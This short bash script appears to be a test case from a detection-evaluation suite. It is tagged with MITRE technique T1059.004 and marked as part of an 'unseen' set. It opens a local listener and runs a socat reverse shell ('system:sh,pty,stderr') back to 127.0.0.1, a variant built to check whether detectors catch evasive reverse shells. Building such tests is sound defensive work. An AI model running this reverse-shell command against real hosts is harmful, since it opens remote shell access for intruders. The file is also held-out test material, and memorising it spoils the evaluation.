#!/usr/bin/env bash
# attack: T1059.004 socat reverse shell with system: instead of exec:
# set: unseen
. "$(dirname "$0")/lib/common.sh"
p=$(listen)
timeout 10 socat "tcp-connect:127.0.0.1:$p" system:sh,pty,stderr >/dev/null 2>&1
